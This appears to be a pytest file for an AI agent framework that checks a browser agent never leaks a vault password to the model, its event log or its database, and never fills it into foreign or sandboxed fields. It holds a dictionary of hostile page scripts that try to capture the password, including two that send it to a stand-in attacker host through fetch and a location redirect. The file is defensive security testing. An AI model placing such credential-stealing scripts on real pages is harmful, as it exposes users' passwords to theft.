"""A password of the vault goes into one field of its own site, and into nothing that anybody reads."""

# A page of an attack stands in one line, where it fits.
# ruff: noqa: E501

import asyncio
import sqlite3
from collections.abc import AsyncGenerator, Callable

import pytest
import pytest_asyncio

import sestet
from sestet.core.event import ApprovalRequested, Event, TurnFinished, TurnPaused
from sestet.core.message import ToolCall
from sestet.core.model import ModelRequest
from sestet.services.vault.vault import Vault
from tests.services.browser.attacks.arena import Arena, Refused, open_arena
from tests.services.browser.attacks.internet import EVIL, Answer
from tests.services.vault.cheap import CHEAP, PASSPHRASE

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="session")]

SECRET = "Zz11Yy22Xx33Ww44Vv55"
_FORM = (
    "<form id=f method=post action=/login><label>Password <input id=p type=password name=password></label>"
    "<button>Sign in</button></form><p id=m></p>"
)


@pytest_asyncio.fixture(loop_scope="session", scope="module")
async def guarded(tmp_path_factory: pytest.TempPathFactory) -> AsyncGenerator[Arena]:
    """An arena whose assistant has an unlocked vault with one secret for the shop."""
    folder = tmp_path_factory.mktemp("secrets")
    async with open_arena(folder) as arena:
        assert arena.app is not None
        vault = arena.app.vault
        await asyncio.to_thread(vault.create, PASSPHRASE, cost=CHEAP)
        await asyncio.to_thread(vault.store, "shop", SECRET.encode(), [arena.local])
        yield arena
        await asyncio.to_thread(vault.close)


#: What a page does with the password as soon as it has it.
THEFTS = {
    "makes the field a text field": "p.type = 'text'",
    "makes it a text field at the next focus": "p.onfocus = () => { p.type = 'text' }",
    "writes it on the page": "m.textContent = 'it is ' + p.value",
    "writes it into the title": "document.title = p.value",
    "writes it into the address": "history.replaceState('', '', '/?' + p.value)",
    "writes it into a label": "document.querySelector('label').append(p.value)",
    "writes it into a button": "document.querySelector('button').textContent = p.value",
    "writes it backwards": "m.textContent = 'it is ' + [...p.value].join(' ')",
    "writes it in code": "m.textContent = 'it is ' + btoa(p.value)",
    "says it in a box": "alert(p.value)",
    "offers it as a link": "m.innerHTML = `<a href='/?${p.value}'>${p.value}</a>`",
    "sends it elsewhere": f"fetch('http://{EVIL}/?' + p.value, {{mode: 'no-cors'}}); m.textContent = 'tried'",
    "goes elsewhere with it": f"location = 'http://{EVIL}/?' + p.value",
    "takes the focus away": "window.open; document.body.insertAdjacentHTML('beforeend', '<input id=q autofocus>'); q.focus()",
}


def _site(arena: Arena) -> str:
    """Secrets go to no address in the clear but one of this machine."""
    return f"localhost:{arena.shop.port}"


def _thief(script: str) -> str:
    return (
        f"{_FORM}<script>const p = document.getElementById('p'), m = document.getElementById('m');"
        f"p.addEventListener('input', () => {{ {script}; document.body.append(' theft tried') }});</script>"
    )


DELEGATION = {"agent_name": "navigator", "request": "Sign in.", "reply": True}


async def _turn(arena: Arena, *calls: ToolCall) -> tuple[list[Event], list[ModelRequest]]:
    """A whole turn of an assistant whose model makes these calls; the person says yes to every question."""
    model = sestet.ScriptedModel(
        {
            "orchestrator": [ToolCall("transfer_to_agent", DELEGATION)],
            "navigator": [*calls, "I did it."],
        }
    )
    events: list[Event] = []
    home = arena.work.parent / "home"
    settings = {"browser": {"allow": [_site(arena)]}, "embedding": {"provider": "none"}}

    def unlock(vault: Vault) -> None:
        vault.unlock(PASSPHRASE)

    async with sestet.open(settings, home=home, model=model, unlock=unlock) as app:
        await asyncio.to_thread(app.vault.unlock, PASSPHRASE)
        words = f"Sign in at {arena.local}/ with vault:shop, and fill in the form on {_site(arena)}"
        stream = app.run_turn("secrets", words)
        while True:
            paused = ""
            async for event in stream:
                events.append(event)
                if isinstance(event, TurnPaused):
                    paused = event.stamp.turn_id
            if not paused:
                break
            for question in app.approvals.pending(paused):
                app.decide(question.id, "approve")
            stream = app.resume_turn(paused)
    return events, model.requests


def _spellings() -> tuple[str, ...]:
    return SECRET, SECRET[::-1], " ".join(SECRET), __import__("base64").b64encode(SECRET.encode()).decode()


@pytest.mark.parametrize("name", THEFTS)
async def test_no_model_event_or_row_ever_holds_the_password(guarded: Arena, name: str) -> None:
    guarded.clear()
    guarded.show(_thief(THEFTS[name]))
    guarded.shop.pages["/login"] = Answer("<p>welcome</p>")
    events, requests = await _turn(
        guarded,
        ToolCall("browser_navigate", {"url": f"{guarded.local}/"}),
        ToolCall("browser_fill", {"site": _site(guarded), "fields": {"Password": "vault:shop"}}),
        ToolCall("browser_read", {}),
        ToolCall("browser_submit", {"site": _site(guarded), "target": "Sign in"}),
    )

    texts = [repr(events), repr(requests)]
    with sqlite3.connect(guarded.work.parent / "home" / "sestet.db") as database:
        texts += database.iterdump()
    assert isinstance(events[-1], TurnFinished)
    assert "Filled in Password" in texts[0]
    # A page that goes elsewhere takes its own mark away; there the result tells what was stopped.
    mark = "Stopped: what the page tried to send" if name == "goes elsewhere with it" else "theft tried"
    assert mark in texts[0]
    for spelling in _spellings():
        assert not any(spelling in text for text in texts), spelling
    assert not guarded.evil.learned(SECRET)


async def test_the_site_itself_gets_the_password_after_a_question(guarded: Arena) -> None:
    guarded.clear()
    guarded.show(_FORM)
    guarded.shop.pages["/login"] = Answer("<p>welcome</p>")
    events, _ = await _turn(
        guarded,
        ToolCall("browser_navigate", {"url": f"{guarded.local}/"}),
        ToolCall("browser_fill", {"site": _site(guarded), "fields": {"Password": "vault:shop"}}),
        ToolCall("browser_submit", {"site": _site(guarded), "target": "Sign in"}),
    )

    assert guarded.shop.learned(f"password={SECRET}")
    assert any(isinstance(event, ApprovalRequested) for event in events)


#: Pages that must not get the password into their field.
WRONG_PLACES: dict[str, Callable[[Arena], None]] = {
    "another site": lambda arena: arena.show(_FORM, site=arena.evil),
    "a frame of another site": lambda arena: arena.show(
        f"<iframe src='{arena.local}/x' width=600></iframe>", site=arena.evil
    ),
    "a text field": lambda arena: arena.show(_FORM.replace("type=password", "type=text"), site=arena.evil),
    "a sandboxed frame": lambda arena: arena.show(
        f"<iframe sandbox='allow-scripts allow-forms' srcdoc=\"{_FORM}\" width=600></iframe>", site=arena.evil
    ),
}


@pytest.mark.parametrize("name", WRONG_PLACES)
async def test_the_password_goes_into_no_other_field(guarded: Arena, name: str) -> None:
    guarded.clear()
    WRONG_PLACES[name](guarded)
    guarded.show(_FORM.replace("type=password", "type=text"), "/x")
    guest = guarded.guest()
    await guest.open(f"http://{EVIL}/")
    for site in (EVIL, _site(guarded)):
        said = await guest.call("fill", site=site, fields={"Password": "vault:shop"})
        assert isinstance(said, Refused), said
    read = await guest.call("read")
    assert "•••" not in read
    assert SECRET not in read


async def test_a_field_that_changes_while_the_password_is_on_its_way_gets_nothing(guarded: Arena) -> None:
    guarded.clear()
    guarded.show(
        _FORM + "<script>setInterval(() => { p.type = 'password'; queueMicrotask(() => 0) }, 5)</script>"
    )
    guest = guarded.guest()
    await guest.open(guarded.local)
    assert "•••" in await guest.call("fill", site=_site(guarded), fields={"Password": "vault:shop"})

    for tool, arguments in (
        ("click", {"target": "Sign in"}),
        ("download", {"target": "Sign in"}),
        ("press", {"key": "Enter"}),
    ):
        assert isinstance(await guest.call(tool, **arguments), Refused)
    assert not guarded.shop.got("/login")
